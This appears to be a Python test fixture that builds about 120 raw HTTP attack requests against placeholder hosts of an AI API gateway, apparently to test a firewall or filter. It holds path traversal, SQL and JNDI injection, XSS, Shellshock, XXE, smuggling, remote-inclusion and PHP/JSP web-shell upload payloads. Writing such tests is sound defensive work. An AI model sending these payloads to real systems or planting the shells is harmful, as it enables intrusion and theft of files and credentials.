"""Attacks by the part of a request that carries them, as raw HTTP/1.1. `HOST` stands for the name."""

from __future__ import annotations

import json

API = "api.edge.test"
CONSOLE = "console.edge.test"
CHAT = "/v1/chat/completions"
GEMINI = "/v1beta/models/gemini-2.5-pro:generateContent"


def request(
    target: str, headers: str = "", body: str | bytes = b"", method: str = "", host: str = API, kind: str = ""
) -> bytes:
    """A request as its bytes."""
    data = body.encode() if isinstance(body, str) else body
    lines = [
        f"{method or ('POST' if data else 'GET')} {target} HTTP/1.1",
        f"Host: {host}",
        "Connection: close",
    ]
    lines += ["User-Agent: attack/1.0", "Accept: */*"]
    if data:
        lines += [f"Content-Length: {len(data)}"]
    if kind or data:
        lines += [f"Content-Type: {kind or 'application/json'}"]
    lines += [line for line in headers.split("\n") if line]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1", "surrogateescape") + data


def form(body: str, target: str = "/console/login") -> bytes:
    """A form that the console is sent."""
    return request(target, body=body, host=CONSOLE, kind="application/x-www-form-urlencoded")


def upload(filename: str, part: str = "Content-Type: audio/mpeg", more: str = "", host: str = API) -> bytes:
    """A file that the API is sent, and perhaps another field."""
    head = (
        f'--b\r\nContent-Disposition: form-data; name="file"; filename="{filename}"\r\n{part}\r\n\r\nID3\r\n'
    )
    body = f"{head}{more}--b--\r\n"
    return request("/v1/audio/transcriptions", body=body, kind="multipart/form-data; boundary=b", host=host)


def field(name: str, value: str) -> str:
    return f'--b\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'


def console_upload(filename: str, content: str, kind: str = "text/plain") -> bytes:
    """A file that the console is sent."""
    disposition = f'Content-Disposition: form-data; name="file"; filename="{filename}"'
    body = f"--b\r\n{disposition}\r\nContent-Type: {kind}\r\n\r\n{content}\r\n--b--\r\n"
    return request("/console/upload", body=body, kind="multipart/form-data; boundary=b", host=CONSOLE)


CALL = json.dumps({"model": "m", "messages": [{"role": "user", "content": "hi"}]})

ATTACKS: dict[str, bytes] = {
    # URI
    "uri_traversal": request("/v1/models/../../../../etc/passwd"),
    "uri_traversal_encoded": request("/v1/models/%2e%2e/%2e%2e/etc/passwd"),
    "uri_traversal_double": request("/v1/models/%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    "uri_script": request("/v1/models/%3Cscript%3Ealert(1)%3C/script%3E"),
    "uri_null": request("/v1/models/a%00.json"),
    "uri_env_file": request("/v1/.env"),
    "uri_git": request("/v1/.git/config"),
    "uri_jndi": request("/v1/models/${jndi:ldap://x/a}"),
    "uri_shell": request("/v1/models/;cat%20/etc/passwd"),
    "uri_template": request("/v1/models/%7B%7B7*7%7D%7D"),
    "uri_dot_segment": request("/v1/models/.ssh/id_rsa"),
    # path tricks
    "path_backslash": request("/v1/..%5c..%5cwindows/win.ini"),
    "path_confusion_model": request(CHAT + "/..%2f..%2fapi/pricing", body=CALL),
    "path_overlong": request("/v1/models/%c0%ae%c0%ae/etc/passwd"),
    # query
    "query_sql": request("/v1/models?id=1%27%20OR%20%271%27=%271"),
    "query_union": request("/v1/models?id=1+UNION+SELECT+password+FROM+users"),
    "query_xss": request("/v1/models?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    "query_rfi": request("/v1/models?file=http://1.2.3.4/x.php%3F"),
    "query_lfi": request("/v1/models?file=../../../etc/passwd"),
    "query_command": request("/v1/models?x=%3Bcat%20/etc/passwd"),
    "query_template": request("/v1/models?q=%7B%7B7*7%7D%7D"),
    "query_nosql": request("/v1/models?q[$ne]=1"),
    "query_ldap": request("/v1/models?q=*)(uid=*))(|(uid=*"),
    "query_crlf": request("/v1/models?q=a%0d%0aSet-Cookie:x=1"),
    "query_on_a_call": request(CHAT + "?x=%27%20OR%201=1--", body=CALL),
    "query_on_a_gemini_call": request(
        "/v1beta/models/g:generateContent?key=%24%7Bjndi:ldap://x%7D", body=CALL
    ),
    "query_on_an_anthropic_call": request("/v1/messages?beta=%3Cscript%3E", body=CALL),
    # headers
    "header_shellshock": request(CHAT, "X-Test: () { :;}; /bin/bash -c 'cat /etc/passwd'", CALL),
    "header_agent_jndi": request(CHAT, "X-Api-Version: ${jndi:ldap://evil/a}", CALL),
    "header_jndi_nested": request(CHAT, "Referer: ${${lower:j}ndi:${lower:l}dap://x/a}", CALL),
    "header_scanner": request("/v1/models", "X-Scanner: 1").replace(b"attack/1.0", b"sqlmap/1.7"),
    "header_referer_xss": request(CHAT, "Referer: http://x/<script>alert(1)</script>", CALL),
    "header_agent_sql": request("/v1/models").replace(b"attack/1.0", b"x' UNION SELECT 1,2,3 FROM users-- -"),
    "header_range": request("/v1/models", "Range: bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7,7-8"),
    "header_other_path": request("/v1/models", "X-Original-URL: /metrics"),
    "header_other_method": request("/v1/models", "X-HTTP-Method-Override: DELETE"),
    # cookies
    "cookie_sql": request(CHAT, "Cookie: s=1' UNION SELECT password FROM users-- -", CALL),
    "cookie_php": request(CHAT, 'Cookie: s=O:8:"stdClass":1:{s:1:"a";s:1:"b";}', CALL),
    "cookie_xss": request(CHAT, "Cookie: s=<script>alert(document.cookie)</script>", CALL),
    # console forms
    "form_sql": form("user=admin'%20OR%20'1'='1'%20--&password=x"),
    "form_xss": form("name=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E"),
    "form_command": form("name=x%3B%20cat%20/etc/passwd"),
    "form_php": form("name=%3C%3Fphp%20system('id')%3B%20%3F%3E"),
    "form_json": request(
        "/console/api", body='{"a": "1\' UNION SELECT password FROM users-- -"}', host=CONSOLE
    ),
    "form_quote_path": request("/api/pricing/quote", body='{"model": "<script>alert(1)</script>"}'),
    # content types
    "type_form_on_a_call": request(CHAT, body="messages=hi", kind="application/x-www-form-urlencoded"),
    "type_xml_on_a_call": request(CHAT, body="<a/>", kind="text/xml"),
    "type_none_on_a_call": request(CHAT, body=CALL).replace(b"Content-Type: application/json\r\n", b""),
    "type_two_on_a_call": request(CHAT, "Content-Type: text/plain", CALL),
    "type_charset_on_a_call": request(CHAT, body=CALL, kind="application/json; charset=utf-7"),
    "type_multipart_on_a_call": request(CHAT, body="--b--\r\n", kind="multipart/form-data; boundary=b"),
    "type_form_on_gemini": request(
        "/v1beta/models/g:generateContent", body="a=b", kind="application/x-www-form-urlencoded"
    ),
    "type_json_form_on_the_console": request("/console/x", body="a=b", kind="text/x-odd", host=CONSOLE),
    # uploads
    "upload_php": upload("shell.php"),
    "upload_double_extension": upload("x.phtml"),
    "upload_traversal": upload("../../etc/cron.d/x"),
    "upload_jsp": upload("x.jsp"),
    "upload_backslash": upload("..\\x.mp3"),
    "upload_null": upload("x.php%00.mp3"),
    "upload_htaccess": upload(".htaccess"),
    "upload_field_sql": upload("a.mp3", more=field("model", "1' UNION SELECT password FROM users-- -")),
    "upload_field_xss": upload("a.mp3", more=field("language", "<script>alert(1)</script>")),
    "upload_part_header": upload("a.mp3", part="Content-Type: text/html; charset=utf-7\r\nX: <script>"),
    "upload_broken": upload("a.mp3", more='--b\r\nContent-Disposition: form-data; name="x\r\n\r\nv\r\n'),
    # more of each
    "uri_encoded_slash_dots": request("/v1/models/..%252f..%252fadmin"),
    "uri_semicolon_param": request("/v1/models/x;jsessionid=1"),
    "uri_unicode_slash": request("/v1/%u002e%u002e/etc/passwd"),
    "uri_win_share": request("/v1/models/%5c%5cevil%5cshare"),
    "uri_php_wrapper": request("/v1/models/php://filter/convert.base64-encode/resource=x"),
    "uri_wp": request("/wp-login.php"),
    "uri_absolute": request("http://api.edge.test/v1/models/../../metrics"),
    "uri_tab": request("/v1/models/a%09b"),
    "uri_newline": request("/v1/models/a%0d%0aX: y"),
    "uri_ssi": request("/v1/models/%3C!--%23exec%20cmd=ls--%3E"),
    "query_sleep": request("/v1/models?after=1;SELECT%20pg_sleep(5)"),
    "query_boolean": request("/v1/models?limit=1%20AND%201=1"),
    "query_svg": request("/v1/models?order=%3Csvg/onload=alert(1)%3E"),
    "query_backtick": request("/v1/models?after=%60id%60"),
    "query_dollar": request("/v1/models?after=$(id)"),
    "query_etc_file": request("/v1/models?after=/etc/passwd"),
    "query_proc": request("/v1/models?after=/proc/self/environ"),
    "query_log4j_env": request("/v1/models?after=%24%7Benv:HOME%7D"),
    "query_null": request("/v1/models?after=a%00b"),
    "query_gemini_key_sql": request(GEMINI + "?key=1'%20OR%20'1'='1", body=CALL),
    "query_gemini_alt_xss": request(GEMINI + "?alt=%3Cscript%3E", body=CALL),
    "header_referer_sql": request(
        CHAT, "Referer: https://x/?a=1' UNION SELECT password FROM users-- -", CALL
    ),
    "header_agent_nikto": request("/v1/models").replace(b"attack/1.0", b"Mozilla/5.00 (Nikto/2.1.6)"),
    "header_agent_nuclei": request("/v1/models").replace(
        b"attack/1.0", b"Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"
    ),
    "header_agent_masscan": request("/v1/models").replace(b"attack/1.0", b"masscan/1.3"),
    "header_auth_jndi": request(CHAT, "Authorization: Bearer ${jndi:dns://x}", CALL),
    "header_xss_agent": request("/v1/models").replace(b"attack/1.0", b"<script>alert(1)</script>"),
    "header_te_smuggle": request(CHAT, "Transfer-Encoding: chunked", CALL),
    "header_two_lengths": request(CHAT, "Content-Length: 1", CALL),
    "header_te_odd": request(CHAT, "Transfer-Encoding: xchunked", CALL),
    "header_space_name": request(CHAT, "Transfer-Encoding : chunked", CALL),
    "header_rewrite_url": request("/v1/models", "X-Rewrite-URL: /admin"),
    "header_content_encoding_on_the_console": request(
        "/console/x", "Content-Encoding: gzip", "a=1", host=CONSOLE, kind="application/x-www-form-urlencoded"
    ),
    "header_anthropic_shellshock": request("/v1/messages", "anthropic-beta: () { :;}; /bin/bash -c id", CALL),
    "cookie_command": request(CHAT, "Cookie: s=;cat /etc/passwd", CALL),
    "cookie_lfi": request(CHAT, "Cookie: lang=../../../../etc/passwd", CALL),
    "form_nosql": form("user[$ne]=1&password[$ne]=1"),
    "form_ldap": form("user=*)(uid=*))(|(uid=*"),
    "form_lfi": form("file=../../../../etc/passwd"),
    "form_rfi": form("file=http://1.2.3.4/shell.txt?"),
    "form_ssti_java": form("x=%23%7BT(java.lang.Runtime).getRuntime().exec('id')%7D"),
    "form_node": form("x=require('child_process').exec('id')"),
    "form_unserialize": form("x=O:8:%22stdClass%22:1:%7Bs:1:%22a%22;s:1:%22b%22;%7D"),
    "form_powershell": form("x=powershell.exe%20-enc%20SQBFAFgA"),
    "form_session": form("x=document.cookie%3D%22PHPSESSID%3D1%22"),
    "json_console_nested": request(
        "/console/api", body='{"a":{"b":[{"c":"; cat /etc/passwd"}]}}', host=CONSOLE
    ),
    "json_console_unicode": request(
        "/console/api", body='{"a":"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}', host=CONSOLE
    ),
    "json_console_broken": request("/console/api", body='{"a": <script>', host=CONSOLE),
    "xml_console_xxe": request(
        "/console/api",
        body='<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
        host=CONSOLE,
        kind="text/xml",
    ),
    "type_text_on_anthropic": request("/v1/messages", body=CALL, kind="text/plain"),
    "type_multipart_on_gemini": request(GEMINI, body="--b--\r\n", kind="multipart/form-data; boundary=b"),
    "type_json_suffix_on_a_call": request(CHAT, body=CALL, kind="application/x+json"),
    "console_upload_php": console_upload("shell.php", "<?php system($_GET['c']); ?>"),
    "console_upload_jsp": console_upload(
        "shell.jsp", '<% Runtime.getRuntime().exec(request.getParameter("c")); %>'
    ),
    "console_upload_jsp_as_image": console_upload("shell.jsp", "x", kind="image/png"),
    "console_upload_php_as_image": console_upload(
        "a.png.php", "GIF89a<?php eval($_POST[1]); ?>", kind="image/gif"
    ),
    "console_upload_php_in_png": console_upload(
        "a.png", "GIF89a<?php system($_GET['c']); ?>", kind="image/gif"
    ),
    "console_upload_aspx": console_upload("x.aspx", '<%@ Page Language="C#" %>'),
    "console_upload_war": console_upload("x.war", "PK"),
    "upload_phar": upload("x.phar"),
    "upload_php5_upper": upload("x.PHP5"),
    "upload_asp": upload("x.asp;.mp3"),
    "upload_html": upload("x.html"),
    "upload_svg": upload("x.svg", part="Content-Type: image/svg+xml"),
    "upload_field_php": upload("a.mp3", more=field("response_format", "<?php system('id'); ?>")),
    "upload_field_lfi": upload("a.mp3", more=field("language", "../../../etc/passwd")),
    "upload_field_jndi": upload("a.mp3", more=field("model", "${jndi:ldap://x/a}")),
    "upload_field_log4j_nested": upload("a.mp3", more=field("model", "${${lower:j}ndi:ldap://x/a}")),
}
assert len(ATTACKS) >= 120
